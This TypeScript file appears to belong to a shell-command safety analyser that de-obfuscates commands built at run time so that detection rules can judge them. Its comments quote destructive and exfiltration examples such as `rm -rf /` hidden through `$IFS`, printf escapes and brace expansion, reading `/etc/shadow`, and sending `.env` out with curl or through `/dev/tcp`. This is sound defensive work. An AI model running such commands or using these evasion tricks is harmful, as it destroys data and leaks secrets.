import type { Pipeline, Redirect, SimpleCommand, Word } from "./ast.js";
import { CommandNode, listOf, PipelineNode, RedirectNode, WordNode } from "./nodes.js";
import { factsOf } from "./word-facts.js";

/**
 * What a script's own text fixes about the words it computes. A command name can be built at
 * run time (`X=rm; $X -rf /`, `$(printf '\x72\x6d') -rf /`, `eval "$CMD"`, an alias), and a
 * reader that only looks at the words as written sees a program called `$X`. Where every part
 * of such a word comes from the script itself (variables it assigned literal text, `${X:-rm}`
 * defaults, `echo`/`printf` output, base64 or reversed text decoded in a substitution), the word
 * has one value whatever the environment; that value is what runs, and the analysis reads it as
 * shell again. Anything that depends on the environment (an unset variable, `$1`, a program's
 * real output) leaves the word unresolved, as it was.
 *
 * Bounded so that hostile text cannot grow it: values are capped in length, a script keeps a
 * capped number of bindings, and expansion recurses a fixed number of levels.
 */

/** Longest value a binding or an expansion may have; longer ones are left unresolved. */
const MAX_VALUE = 4096;
/** Bindings a script may make before later ones are ignored. */
const MAX_BINDINGS = 256;
/** Levels of expansion within expansion (`${A:-$(echo $B)}`). */
const MAX_LEVELS = 6;

/** Builtins whose `NAME=value` arguments assign variables. */
const DECLARERS: ReadonlySet<string> = new Set(["export", "declare", "typeset", "local", "readonly"]);

/** Every builtin that binds a name: the declarers and `alias`. */
export const BINDERS: ReadonlySet<string> = new Set([...DECLARERS, "alias"]);

const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;

/**
 * What the shell itself fixes for a variable the text never set: `IFS` splits on blanks unless
 * changed (`rm${IFS}-rf${IFS}/` is `rm -rf /`).
 */
function shellDefault(name: string): string | undefined {
  return name === "IFS" ? " " : undefined;
}

/** Variables that hold an absolute path on every Unix system: their first character is `/`. */
const ABSOLUTE_PATHS: ReadonlySet<string> = new Set(["PATH", "HOME", "PWD", "OLDPWD", "SHELL"]);

/**
 * A variable as the text bound it: its value where the text fixes it, and in any case its text
 * with the substitutions that text runs (`X=$(cat .env)` binds the text `$(cat .env)` and the
 * pipeline `cat .env`), references to variables bound before it already replaced.
 */
interface Binding {
  readonly value: string | undefined;
  readonly text: string;
  readonly substitutions: readonly Pipeline[];
}

/** The variables and aliases a script has bound so far, in the order its text runs them. */
export class ShellBindings {
  private readonly variables = new Map<string, Binding>();
  private readonly aliases = new Map<string, string>();
  /** Copies the text made of sensitive files, by the copy's path (see staging.ts). */
  private readonly staged = new Map<string, string>();

  /** Whether the text copied any sensitive file or opened a descriptor on a socket. */
  get hasStaged(): boolean {
    return this.staged.size > 0 || this.sockets.size > 0;
  }

  /** Descriptors the text opened on a network socket (`exec 3<>/dev/tcp/h/80`), by number. */
  private readonly sockets = new Map<string, string>();

  /** Notes that descriptor `fd` now writes to `socket`. */
  openSocket(fd: string, socket: string): void {
    if (this.sockets.has(fd) || this.room()) this.sockets.set(fd, socket);
  }

  /** The socket a `>&fd` redirection writes to, if the text opened one on that descriptor. */
  socket(fd: string): string | undefined {
    return this.sockets.get(fd);
  }

  /** Copies noted in the pipeline being read, which only later pipelines may read as their originals. */
  private readonly pending: (readonly [string, string])[] = [];

  /** Notes that `copy` holds what `original` held, from the next pipeline on (see `settle`). */
  stage(copy: string, original: string): void {
    this.pending.push([copy, original]);
  }

  /**
   * Makes the copies the last pipeline noted readable. Not sooner: the command that made a copy
   * names it as its destination (`cp /etc/shadow /dev/stdout`), which is no use of the original.
   */
  settle(): void {
    if (this.pending.length === 0) return;
    for (const [copy, original] of this.pending) {
      if (this.staged.has(copy) || this.room()) this.staged.set(copy, original);
    }
    this.pending.length = 0;
  }

  /** The sensitive file `word` names as a copy of it (`/tmp/x`, `@/tmp/x`, `f=@/tmp/x`), with the original written in. */
  unstaged(text: string): string | undefined {
    for (const [copy, original] of this.staged) {
      if (text === copy) return original;
      if (text.endsWith(copy)) {
        const before = text[text.length - copy.length - 1];
        if (before === "@" || before === "=") return text.slice(0, text.length - copy.length) + original;
      }
    }
    return undefined;
  }

  /** Whether any alias is bound: most scripts bind none, and then no name needs looking up. */
  get hasAliases(): boolean {
    return this.aliases.size > 0;
  }

  /** Whether any variable is bound: most text read as shell binds none. */
  get hasVariables(): boolean {
    return this.variables.size > 0;
  }

  /** The value the text fixes for variable `name`. */
  variable(name: string): string | undefined {
    return this.variables.get(name)?.value;
  }

  /** What variable `name` was bound to, fixed or not. */
  binding(name: string): Binding | undefined {
    return this.variables.get(name);
  }

  alias(name: string): string | undefined {
    return this.aliases.get(name);
  }

  /**
   * Records what a command binds: `NAME=value` words before an empty command, the arguments of
   * `export`/`declare`/`local`/..., and `alias name=value`. A value the script cannot fix is
   * unbound again, so an older literal never stands in for it.
   */
  note(command: SimpleCommand, name: string, args: readonly Word[]): void {
    if (command.words.length === 0) {
      for (const w of command.assignments) this.assign(this.variables, w);
    } else if (DECLARERS.has(name)) {
      for (const w of args) if (w.text.includes("=")) this.assign(this.variables, w);
    } else if (name === "alias") {
      for (const w of args) if (w.text.includes("=")) this.assign(this.aliases, w);
    }
  }

  private assign(into: Map<string, string> | Map<string, Binding>, word: Word): void {
    const eq = word.text.indexOf("=");
    const name = word.text.slice(0, eq).replace(/\+$/, "");
    if (!NAME.test(name) && into === this.variables) return;
    // The name before `=` holds no expansion, so expanding the whole word keeps it as it is.
    const value = word.dynamic ? expandWord(word, this)?.slice(eq + 1) : word.text.slice(eq + 1);
    if (into === this.aliases) {
      if (value === undefined || value.length > MAX_VALUE) this.aliases.delete(name);
      else if (this.aliases.has(name) || this.room()) this.aliases.set(name, value);
      return;
    }
    const symbolic = word.dynamic ? substitutedText(word, this) : undefined;
    const text = symbolic ? symbolic.text.slice(eq + 1) : word.text.slice(eq + 1);
    if (text.length > MAX_VALUE) {
      this.variables.delete(name);
      return;
    }
    if (!this.variables.has(name) && !this.room()) return;
    const substitutions = symbolic ? symbolic.substitutions : word.substitutions;
    this.variables.set(name, {
      value: value !== undefined && value.length <= MAX_VALUE ? value : undefined,
      text,
      substitutions,
    });
  }

  private room(): boolean {
    return this.variables.size + this.aliases.size + this.staged.size < MAX_BINDINGS;
  }
}

/**
 * `pipeline` with the variables the text bound written in (`F=.env; curl -d @$F host` reads as
 * `curl -d @.env host`, `X=$(cat .env); curl host/?d=$X` as `curl host/?d=$(cat .env)`), and
 * the sensitive files it copied named by their originals (`cp .env /tmp/x; curl -T /tmp/x host`
 * reads as `curl -T .env host`), for
 * the rules to judge as it will run; undefined when it uses none of them. An unquoted variable
 * that stands alone with a fixed value splits into words, as the shell splits it.
 */
export function substitutedPipeline(
  pipeline: Pipeline,
  bindings: ShellBindings,
  shellFixed: boolean,
): Pipeline | undefined {
  if (!shellFixed && !bindings.hasVariables && !bindings.hasStaged) return undefined;
  let changed = false;
  const commands: SimpleCommand[] = [];
  for (const command of pipeline.commands) {
    const words = substitutedWords(command.words, bindings);
    let redirects: Redirect[] = command.redirects;
    for (let k = 0; k < command.redirects.length; k++) {
      const r = command.redirects[k]!;
      const socket = r.op === ">&" && bindings.hasStaged ? bindings.socket(r.target.text) : undefined;
      if (socket !== undefined) {
        // `cat .env >&3`, descriptor 3 opened on /dev/tcp/h/80: the same as `cat .env > /dev/tcp/h/80`.
        if (redirects === command.redirects) redirects = command.redirects.slice();
        redirects[k] = new RedirectNode(
          r.fd === "1" ? "" : r.fd,
          ">",
          staticWord(socket, r.target),
          r.start,
          r.end,
        );
        continue;
      }
      const target = r.target.dynamic
        ? substitutedWord(r.target, bindings)
        : bindings.hasStaged
          ? unstagedWord(r.target, bindings)?.[0]
          : undefined;
      if (target === undefined) continue;
      if (redirects === command.redirects) redirects = command.redirects.slice();
      const copy = new RedirectNode(r.fd, r.op, target, r.start, r.end);
      copy.body = r.body;
      redirects[k] = copy;
    }
    if (words === command.words && redirects === command.redirects) commands.push(command);
    else {
      changed = true;
      commands.push(new CommandNode(command.assignments, words, redirects, command.start, command.end));
    }
  }
  if (!changed) return undefined;
  return new PipelineNode(commands, pipeline.start, pipeline.end, pipeline.depth);
}

/** `words` with bound variables written in; the same array when none is used. */
function substitutedWords(words: Word[], bindings: ShellBindings): Word[] {
  let out: Word[] | undefined;
  for (let k = 0; k < words.length; k++) {
    const w = words[k]!;
    const replaced = w.dynamic
      ? replacementOf(w, bindings)
      : bindings.hasStaged
        ? unstagedWord(w, bindings)
        : undefined;
    if (replaced === undefined) {
      out?.push(w);
      continue;
    }
    if (out === undefined) out = words.slice(0, k);
    for (const r of replaced) out.push(r);
  }
  return out ?? words;
}

/**
 * The words a dynamic word becomes with bound variables written in, or with what the shell
 * fixes without them (`${IFS}`, `${PATH:0:1}`); undefined when it uses neither.
 */
function replacementOf(word: Word, bindings: ShellBindings): Word[] | undefined {
  if (bindings.hasVariables) {
    const split = word.quoted ? undefined : splitValue(word, bindings);
    if (split !== undefined) return split;
    const substituted = substitutedWord(word, bindings);
    if (substituted !== undefined) return listOf(substituted);
  }
  if (!SHELL_FIXED.test(word.text)) return undefined;
  const fixed = expandWord(word, bindings);
  if (fixed === undefined) return undefined;
  return word.quoted ? listOf(staticWord(fixed, word)) : splitWords(fixed, word);
}

/** A word naming a staged copy, as the words naming the original; undefined when it names none. */
function unstagedWord(word: Word, bindings: ShellBindings): Word[] | undefined {
  const original = bindings.unstaged(word.text);
  return original === undefined ? undefined : listOf(staticWord(original, word));
}

/** Expansions the shell fixes without the text binding anything: `IFS`, and a path variable's first character. */
const SHELL_FIXED = /IFS|:0:1\}/;

/** Whether `text` may use an expansion the shell fixes (see SHELL_FIXED): asked once of a whole text. */
export function mayUseShellFixed(text: string): boolean {
  return text.includes("IFS") || text.includes(":0:1}");
}

function staticWord(text: string, like: Word): Word {
  return new WordNode(text, factsOf(text), like.start, like.end, like.quoted, false, []);
}

/** `text` split on blanks, as the shell splits an unquoted expansion, each part spanning `like`. */
function splitWords(text: string, like: Word): Word[] {
  let out: Word[] | undefined;
  for (const part of text.split(/[ \t\n]+/)) {
    if (part.length === 0) continue;
    const node = staticWord(part, like);
    if (out === undefined) out = listOf(node);
    else out.push(node);
  }
  return out ?? [];
}

/** An unquoted `$X` or `${X}` alone, X fixed: the words the shell splits its value into. */
function splitValue(word: Word, bindings: ShellBindings): Word[] | undefined {
  const m = /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})$/.exec(word.text);
  const value = m ? bindings.variable(m[1] ?? m[2] ?? "") : undefined;
  return value === undefined ? undefined : splitWords(value, word);
}

/** `word` with bound variables written in; undefined when it uses none. */
function substitutedWord(word: Word, bindings: ShellBindings): Word | undefined {
  const replaced = substitutedText(word, bindings);
  if (!replaced) return undefined;
  return new WordNode(
    replaced.text,
    factsOf(replaced.text),
    word.start,
    word.end,
    word.quoted,
    replaced.text.includes("$") || replaced.text.includes("`") || replaced.substitutions.length > 0,
    replaced.substitutions.slice(),
  );
}

/**
 * The text of `word` with each `$X`/`${X}` of a bound variable replaced by the text it was bound
 * to, and the substitutions of the result in text order; undefined when no bound variable is used
 * (or the word nests a substitution inside `${...}`, whose order this does not follow).
 */
function substitutedText(
  word: Word,
  bindings: ShellBindings,
): { text: string; substitutions: Pipeline[] } | undefined {
  const text = word.text;
  let out = "";
  let replaced = false;
  let own = 0;
  const substitutions: Pipeline[] = [];
  const takeOwn = () => {
    const p = word.substitutions[own++];
    if (p) substitutions.push(p);
  };
  for (let i = 0; i < text.length; ) {
    const c = text[i]!;
    const next = text[i + 1];
    let end = i + 1;
    if (c === "`") {
      const close = text.indexOf("`", i + 1);
      if (close === -1) return undefined;
      end = close + 1;
      takeOwn();
    } else if ((c === "$" || c === "<" || c === ">") && next === "(" && text[i + 2] !== "(") {
      const close = closingParen(text, i + 2);
      if (close === -1) return undefined;
      end = close + 1;
      takeOwn();
    } else if (c === "$" && next === "{") {
      const close = closingBrace(text, i + 2);
      if (close === -1) return undefined;
      const inside = text.slice(i + 2, close);
      if (/[`(]/.test(inside)) return undefined;
      const bound = NAME.test(inside) ? bindings.binding(inside) : undefined;
      if (bound) {
        out += bound.text;
        for (const p of bound.substitutions) substitutions.push(p);
        replaced = true;
        i = close + 1;
        continue;
      }
      end = close + 1;
    } else if (c === "$" && next !== undefined && /[A-Za-z_]/.test(next)) {
      end = i + 2;
      while (end < text.length && /[A-Za-z0-9_]/.test(text[end]!)) end++;
      const bound = bindings.binding(text.slice(i + 1, end));
      if (bound) {
        out += bound.text;
        for (const p of bound.substitutions) substitutions.push(p);
        replaced = true;
        i = end;
        continue;
      }
    }
    out += text.slice(i, end);
    i = end;
    if (out.length > MAX_VALUE) return undefined;
  }
  return replaced ? { text: out, substitutions } : undefined;
}

/** The value of `word` fixed by the script's own text, or undefined when it depends on anything else. */
export function expandWord(word: Word, bindings: ShellBindings): string | undefined {
  if (!word.dynamic) return word.text;
  return new Expander(bindings, word.substitutions, 0).expand(word.text);
}

/** Expands one word's text, taking its command substitutions' pipelines in the order they appear. */
class Expander {
  private next = 0;
  /** `${...}` defaults being expanded inside one another. */
  private depth = 0;

  constructor(
    private readonly bindings: ShellBindings,
    private readonly substitutions: readonly Pipeline[],
    private readonly level: number,
  ) {}

  expand(text: string): string | undefined {
    if (this.level > MAX_LEVELS) return undefined;
    let out = "";
    let i = 0;
    while (i < text.length) {
      const c = text[i]!;
      if (c === "`") {
        const end = text.indexOf("`", i + 1);
        if (end === -1) return undefined;
        const value = this.substitution();
        if (value === undefined) return undefined;
        out += value;
        i = end + 1;
      } else if (c === "$" && text[i + 1] === "(" && text[i + 2] !== "(") {
        const end = closingParen(text, i + 2);
        if (end === -1) return undefined;
        const value = this.substitution();
        if (value === undefined) return undefined;
        out += value;
        i = end + 1;
      } else if (c === "$" && text[i + 1] === "{") {
        const end = closingBrace(text, i + 2);
        if (end === -1) return undefined;
        const value = this.parameter(text.slice(i + 2, end));
        if (value === undefined) return undefined;
        out += value;
        i = end + 1;
      } else if (c === "$" && /[A-Za-z_]/.test(text[i + 1] ?? "")) {
        let end = i + 2;
        while (end < text.length && /[A-Za-z0-9_]/.test(text[end]!)) end++;
        const name = text.slice(i + 1, end);
        const value = this.bindings.variable(name) ?? shellDefault(name);
        if (value === undefined) return undefined;
        out += value;
        i = end;
      } else if ((c === "<" || c === ">") && text[i + 1] === "(") {
        // A process substitution stands for a file the shell makes at run time.
        return undefined;
      } else if (c === "$" && i + 1 < text.length) {
        // `$1`, `$@`, `$$`, `$((...))`, `$'...'` left verbatim by the parser: not the script's to fix.
        return undefined;
      } else {
        out += c;
        i++;
      }
      if (out.length > MAX_VALUE) return undefined;
    }
    return out;
  }

  /** `${NAME}`, `${NAME:-word}`, `${NAME-word}`, `${NAME:=word}`, `${NAME:+word}`, `${NAME:offset:length}`. */
  private parameter(inside: string): string | undefined {
    const slice = /^([A-Za-z_][A-Za-z0-9_]*):([0-9]+)(?::([0-9]+))?$/.exec(inside);
    if (slice) return this.substring(slice[1]!, Number(slice[2]), slice[3]);
    const m = /^([A-Za-z_][A-Za-z0-9_]*)(?:(:?)([-=+])(.*))?$/s.exec(inside);
    if (!m) return undefined;
    const value = this.bindings.variable(m[1]!) ?? shellDefault(m[1]!);
    const operator = m[3];
    if (operator === undefined) return value;
    const set = value !== undefined && (m[2] === "" || value !== "");
    if (set === (operator === "+")) return this.word(m[4]!);
    // An unset variable's default is what runs; an unbound one may still be set by the
    // environment, but a default written next to it is the script's own intended value.
    return operator === "+" ? "" : value;
  }

  /** `${NAME:offset:length}`; `${PATH:0:1}` and its kin are `/` whatever the environment. */
  private substring(name: string, offset: number, length: string | undefined): string | undefined {
    const value = this.bindings.variable(name) ?? shellDefault(name);
    if (value !== undefined) {
      return length === undefined ? value.slice(offset) : value.slice(offset, offset + Number(length));
    }
    return ABSOLUTE_PATHS.has(name) && offset === 0 && length === "1" ? "/" : undefined;
  }

  /** The word of a `${...}` operator, expanded one level deeper. */
  private word(text: string): string | undefined {
    if (this.depth >= MAX_LEVELS) return undefined;
    this.depth++;
    const value = this.expand(text);
    this.depth--;
    return value;
  }

  /** The output of the next command substitution, when its text fixes it. */
  private substitution(): string | undefined {
    const pipeline = this.substitutions[this.next++];
    if (!pipeline) return undefined;
    const output = staticOutput(pipeline, this.bindings, this.level + 1);
    return output === undefined ? undefined : withoutTrailingNewlines(output);
  }
}

/** Command substitution drops the output's trailing newlines. */
function withoutTrailingNewlines(text: string): string {
  let end = text.length;
  while (end > 0 && text.charCodeAt(end - 1) === 10) end--;
  return text.slice(0, end);
}

/**
 * What a pipeline prints when its text fixes it: `echo` or `printf` of words the script fixes,
 * piped through any of `base64 -d`, `rev`, `xxd -r -p` and `cat`. Undefined for anything else.
 */
export function staticOutput(pipeline: Pipeline, bindings: ShellBindings, level = 0): string | undefined {
  const [source, ...filters] = pipeline.commands;
  if (!source || source.redirects.length > 0 || source.words.length === 0) return undefined;
  const words: string[] = [];
  for (const w of source.words) {
    const value = w.dynamic ? new Expander(bindings, w.substitutions, level).expand(w.text) : w.text;
    if (value === undefined) return undefined;
    words.push(value);
  }
  let output = printed(words);
  for (const filter of filters) {
    if (output === undefined) return undefined;
    output = filtered(filter, output);
  }
  return output !== undefined && output.length <= MAX_VALUE ? output : undefined;
}

/** What `echo` or `printf` prints with these words (the program first). */
function printed(words: readonly string[]): string | undefined {
  const [program, ...args] = words;
  if (program === "echo") {
    let newline = true;
    let escapes = false;
    let k = 0;
    for (; k < args.length && /^-[neE]+$/.test(args[k]!); k++) {
      if (args[k]!.includes("n")) newline = false;
      if (args[k]!.includes("e")) escapes = true;
    }
    const text = args.slice(k).join(" ");
    return (escapes ? unescaped(text) : text) + (newline ? "\n" : "");
  }
  if (program === "printf") {
    const [format, ...values] = args;
    return format === undefined ? undefined : formatted(format, values);
  }
  return undefined;
}

/** `printf FORMAT ARGS`: escapes, and `%s`/`%b`/`%c`/`%d` conversions, the format reused while arguments remain. */
function formatted(format: string, values: readonly string[]): string | undefined {
  let out = "";
  let k = 0;
  do {
    const before = k;
    for (let i = 0; i < format.length; i++) {
      const c = format[i]!;
      if (c !== "%") {
        const j = c === "\\" ? escapeEnd(format, i) : i + 1;
        out += unescaped(format.slice(i, j));
        i = j - 1;
        continue;
      }
      const conversion = format[i + 1];
      i++;
      if (conversion === "%") out += "%";
      else if (conversion === "s" || conversion === "d") out += values[k++] ?? "";
      else if (conversion === "b") out += unescaped(values[k++] ?? "");
      else if (conversion === "c") out += (values[k++] ?? "").slice(0, 1);
      else return undefined;
      if (out.length > MAX_VALUE) return undefined;
    }
    if (k === before) break;
  } while (k < values.length);
  return out;
}

/** Where the escape sequence starting at `i` (a backslash) ends. */
function escapeEnd(text: string, i: number): number {
  const next = text[i + 1];
  if (next === "x") {
    let j = i + 2;
    while (j < i + 4 && /[0-9A-Fa-f]/.test(text[j] ?? "")) j++;
    return j;
  }
  if (next !== undefined && /[0-7]/.test(next)) {
    let j = i + 1;
    const max = next === "0" ? i + 5 : i + 4;
    while (j < max && /[0-7]/.test(text[j] ?? "")) j++;
    return j;
  }
  return Math.min(text.length, i + 2);
}

const SIMPLE_ESCAPES: Readonly<Record<string, string>> = {
  n: "\n",
  t: "\t",
  r: "\r",
  a: "\x07",
  b: "\b",
  f: "\f",
  v: "\v",
  e: "\x1b",
  "\\": "\\",
};

/** Backslash escapes as `echo -e` and `printf` read them: `\n`, `\xHH`, `\NNN`, `\0NNN`. */
function unescaped(text: string): string {
  if (!text.includes("\\")) return text;
  let out = "";
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (c !== "\\" || i + 1 >= text.length) {
      out += c;
      continue;
    }
    const end = escapeEnd(text, i);
    const next = text[i + 1]!;
    if (next === "x" && end > i + 2) out += String.fromCharCode(Number.parseInt(text.slice(i + 2, end), 16));
    else if (/[0-7]/.test(next))
      out += String.fromCharCode(Number.parseInt(text.slice(i + 1, end), 8) & 0xff);
    else out += SIMPLE_ESCAPES[next] ?? `\\${next}`;
    i = end - 1;
  }
  return out;
}

/** What a filter command prints from `input`, for the few that only transform text. */
function filtered(command: SimpleCommand, input: string): string | undefined {
  if (command.redirects.length > 0 || command.words.some((w) => w.dynamic)) return undefined;
  const [program, ...args] = command.words.map((w) => w.text);
  if (program === "cat" && args.length === 0) return input;
  if (program === "rev" && args.length === 0) {
    return input
      .split("\n")
      .map((line) => [...line].reverse().join(""))
      .join("\n");
  }
  if (program === "base64" && args.length === 1 && /^(?:-d|--decode|-D)$/.test(args[0]!)) {
    const clean = input.replace(/\s+/g, "");
    if (!/^[A-Za-z0-9+/]*={0,2}$/.test(clean)) return undefined;
    return Buffer.from(clean, "base64").toString("latin1");
  }
  if (program === "xxd" && args.join(" ") === "-r -p") {
    const clean = input.replace(/\s+/g, "");
    if (!/^(?:[0-9A-Fa-f]{2})*$/.test(clean)) return undefined;
    return Buffer.from(clean, "hex").toString("latin1");
  }
  return undefined;
}

/** Index of the `)` closing a `$(` whose body starts at `from`, stepping over quotes; -1 when none. */
function closingParen(text: string, from: number): number {
  let depth = 1;
  for (let i = from; i < text.length; i++) {
    const c = text[i];
    if (c === "\\") i++;
    else if (c === "'") {
      const end = text.indexOf("'", i + 1);
      if (end === -1) return -1;
      i = end;
    } else if (c === "(") depth++;
    else if (c === ")" && --depth === 0) return i;
  }
  return -1;
}

/** Index of the `}` closing a `${` whose body starts at `from`; -1 when none. */
function closingBrace(text: string, from: number): number {
  let depth = 1;
  for (let i = from; i < text.length; i++) {
    const c = text[i];
    if (c === "\\") i++;
    else if (c === "{") depth++;
    else if (c === "}" && --depth === 0) return i;
  }
  return -1;
}

/**
 * Brace expansion of a whole unquoted word, one level: `{rm,-rf,/}` is the three words `rm -rf /`,
 * `/{etc,home}` the two paths. Undefined for a word without a comma-separated brace group.
 */
export function braceWords(text: string): string[] | undefined {
  const open = text.indexOf("{");
  const close = open === -1 ? -1 : text.indexOf("}", open);
  if (close === -1 || text.includes("$")) return undefined;
  const inside = text.slice(open + 1, close);
  if (!inside.includes(",") || inside.includes("{")) return undefined;
  const prefix = text.slice(0, open);
  const suffix = text.slice(close + 1);
  return inside.split(",").map((alternative) => prefix + alternative + suffix);
}
